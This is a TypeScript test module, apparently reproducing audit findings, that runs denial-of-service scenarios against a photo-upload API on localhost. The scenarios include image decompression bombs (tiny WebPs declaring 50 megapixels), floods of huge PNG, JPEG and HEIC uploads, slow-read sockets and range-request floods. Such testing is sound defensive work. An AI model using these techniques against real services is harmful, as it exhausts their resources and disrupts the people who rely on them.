import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { createHeicGrid } from '../../../support/heic-grid.ts';
import { box } from '../../../support/images.ts';
import { type Attack, type AttackSession, get, post } from '../attack.ts';
import { createLargePng, createScannedJpeg, createTinyWebp } from '../hostile-images.ts';
import type { Attacker } from '../scenario.ts';

export interface AttachmentReference {
  key: string;
  regionId: string;
  type: string;
}

/** Returns the path of a signed upload URL of the attacker, and the reference of the file; null if rejected. */
export async function presign(
  session: AttackSession,
  attacker: Attacker,
  size: number,
  contentType: string,
  number = 0,
) {
  const client = session.client(4, 100_000);
  const intent = { contentType, fileName: 'site', size, type: 'attachment' };
  const path = `/builders/${attacker.builderId}/attachments/presign`;
  const { status, body } = await session.send(client, post(attacker, number, path, intent));
  if (status !== 200) return null;
  const { uploadUrl, key, regionId, type } = JSON.parse(body);
  const { pathname, search } = new URL(uploadUrl);
  const reference: AttachmentReference = { key, regionId, type };
  return { path: `${pathname}${search}`, reference };
}

/** Uploads the bytes. Returns their reference; null if rejected. */
export async function upload(
  session: AttackSession,
  attacker: Attacker,
  bytes: Buffer,
  contentType: string,
  number = 0,
) {
  const intent = await presign(session, attacker, bytes.length, contentType, number);
  if (!intent) return null;
  const put = { method: 'PUT', path: intent.path, headers: { 'content-type': contentType }, body: bytes };
  const { status } = await session.send(session.client(4), put);
  return status === 200 ? intent.reference : null;
}

function createPhotoRequest(
  attacker: Attacker,
  number: number,
  imageAttachment: AttachmentReference,
  contentType?: string,
) {
  const body = { fileName: 'site', imageAttachment, contentType };
  return post(attacker, number, `/builders/${attacker.builderId}/photos`, body);
}

/** Uploads images that differ in their last bytes and creates photos of them, until the attack is over. */
async function createPhotos(
  session: AttackSession,
  attacker: Attacker,
  concurrency: number,
  image: Buffer,
  contentType: string,
): Promise<void> {
  let seed = 0;
  const client = session.client(concurrency);
  const work = async () => {
    while (!session.isOver) {
      const number = seed++;
      const suffix = createHash('sha256').update(`${number}`).digest();
      const bytes = Buffer.concat([image, contentType === 'image/heic' ? box('free', suffix) : suffix]);
      const reference = await upload(session, attacker, bytes, contentType, number);
      if (reference) await session.send(client, createPhotoRequest(attacker, number, reference));
      else await new Promise((done) => setTimeout(done, 50));
    }
  };
  await Promise.all(Array.from({ length: concurrency }, work));
}

export const imageAttacks: Attack[] = [
  {
    ...{ name: 'images-large', finding: '2a', short: true },
    about: 'Eight photo creates at once, all the time, each of a new PNG of 200 megapixels',
    run: (session) => createPhotos(session, session.attacker, 8, createLargePng(14_142, 14_142, 0), 'image/png'),
  },
  {
    ...{ name: 'images-mislabelled', finding: '2b', short: true },
    about: 'A WebP of 50 megapixels in 28 bytes, declared as a JPEG: twenty creates at once that name one upload',
    run: async (session) => {
      const { attacker } = session;
      const reference = await upload(session, attacker, createTinyWebp(7_071, 7_071), 'image/jpeg');
      if (!reference) throw new Error('The upload was refused.');
      await session.flood(20, (number) => createPhotoRequest(attacker, number, reference));
    },
  },
  {
    name: 'images-webp',
    about:
      'WebPs of 50 megapixels in 28 bytes, declared as what they are, consumed again and again by 20 creates at once',
    run: async (session) => {
      const { attacker } = session;
      const bytes = createTinyWebp(7_071, 7_071);
      const client = session.client(20);
      const work = async (first: number) => {
        for (let number = first; !session.isOver; number++) {
          const reference = await upload(session, attacker, bytes, 'image/webp', number);
          if (reference) await session.send(client, createPhotoRequest(attacker, number, reference));
        }
      };
      await Promise.all(Array.from({ length: 20 }, (_, at) => work(at)));
    },
  },
  {
    name: 'images-bulk',
    about: 'Bulk upserts of 100 photos that are PNGs of 200 megapixels, four at once, two of them of one page',
    run: async (session) => {
      const { attacker } = session;
      const image = createLargePng(14_142, 14_142, 0);
      const client = session.client(8);
      const path = `/builders/${attacker.builderId}/photo-gallery/bulk-upsert`;
      const work = async (page: number) => {
        const photos: object[] = [];
        for (let at = 0; at < 12 && !session.isOver; at++) {
          const imageAttachment = await upload(
            session,
            attacker,
            Buffer.concat([image, Buffer.from([page, at])]),
            'image/png',
            at,
          );
          if (imageAttachment) photos.push({ externalSourceId: `${at}`, imageAttachment });
        }
        const names = {
          externalSourceId: `attack-${page >> 1}`,
          sourceApp: 'attack',
          folderName: `Attack ${page >> 1}`,
        };
        const body = { ...names, projectId: attacker.projectIds[0], photos };
        while (!session.isOver) await session.send(client, post(attacker, page, path, body));
      };
      await Promise.all([0, 1, 2, 3].map(work));
    },
  },
  {
    name: 'images-two-integrators',
    about: 'Two integrators, one of them on the builder of the victim: 200-megapixel PNGs, eight at once each',
    run: (session) => {
      const image = createLargePng(14_142, 14_142, 0);
      const { attackers } = session.scenario;
      return Promise.all(attackers.map((attacker) => createPhotos(session, attacker, 8, image, 'image/png')));
    },
  },
  {
    name: 'images-medium',
    about: 'Two integrators: PNGs of 24 megapixels, twenty creates at once each',
    run: (session) => {
      const image = createLargePng(6_000, 4_000, 0);
      const { attackers } = session.scenario;
      return Promise.all(attackers.map((attacker) => createPhotos(session, attacker, 20, image, 'image/png')));
    },
  },
  {
    name: 'images-scans',
    about: 'Two integrators: progressive JPEGs of 5 megapixels and 10,000 scans, twenty creates at once each',
    run: (session) => {
      const image = createScannedJpeg(2_560, 1_920, 10_000);
      const { attackers } = session.scenario;
      return Promise.all(attackers.map((attacker) => createPhotos(session, attacker, 20, image, 'image/jpeg')));
    },
  },
  {
    name: 'images-heic',
    about: 'Two integrators: HEIC photos of 48 megapixels, eight creates at once each, which the jobs render',
    run: async (session) => {
      const tile = await readFile('test/fixtures/heic/tile.heic');
      const image = createHeicGrid(tile, { columns: 16, rows: 12, width: 8_064, height: 6_048 });
      const { attackers } = session.scenario;
      await Promise.all(attackers.map((attacker) => createPhotos(session, attacker, 8, image, 'image/heic')));
    },
  },
  {
    name: 'images-downloads',
    about: 'A 40 MiB object: 100 downloads that are read slowly, 32 ranges at full rate, and HEAD',
    run: async (session) => {
      const { attacker } = session;
      const bytes = Buffer.alloc(40 * 1_048_576, 7);
      const reference = await upload(session, attacker, bytes, 'image/jpeg');
      if (!reference) throw new Error('The upload was refused.');
      const form = Buffer.from(
        '--b\r\ncontent-disposition: form-data; name="type"\r\n\r\nattachment\r\n--b\r\ncontent-disposition: form-data; ' +
          'name="file"; filename="a.jpg"\r\ncontent-type: image/jpeg\r\n\r\n',
      );
      const body = Buffer.concat([form, bytes, Buffer.from('\r\n--b--\r\n')]);
      const path = `/builders/${attacker.builderId}/attachments/upload`;
      const headers = { ...get(attacker, 0, path).headers, 'content-type': 'multipart/form-data; boundary=b' };
      const response = await session.send(session.client(1, 100_000), { method: 'POST', path, headers, body });
      const { pathname, search } = new URL(JSON.parse(response.body).imageUrl);
      for (let at = 0; at < 100; at++) {
        const socket = session.openSocket(`GET ${pathname}${search} HTTP/1.1\r\nhost: localhost\r\n\r\n`);
        socket.pause();
        setInterval(() => socket.read(1_024), 200).unref();
      }
      await session.flood(32, (number) => ({
        method: number % 4 === 0 ? 'HEAD' : 'GET',
        path: `${pathname}${search}`,
        headers: { range: `bytes=${(number * 65_536) % 40_000_000}-` },
      }));
    },
  },
];
